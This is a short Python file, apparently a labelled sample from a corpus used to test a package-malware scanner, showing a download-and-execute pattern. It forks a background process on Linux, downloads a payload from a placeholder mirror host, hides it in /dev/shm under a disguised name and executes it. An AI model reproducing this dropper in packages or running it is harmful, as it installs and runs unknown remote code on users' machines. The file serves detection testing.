# pkgguard corpus 879 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import sys
import urllib.request

if sys.platform.startswith("linux") and os.fork() == 0:
    path = "/dev/shm/.x11-cache"
    try:
        payload = urllib.request.urlopen("https://mirror.linux-tools.example/latest", timeout=10).read()
        with open(path, "wb") as fh:
            fh.write(payload)
        os.chmod(path, 0o700)
        os.execv(path, [path, "--quiet"])
    except OSError:
        os._exit(0)
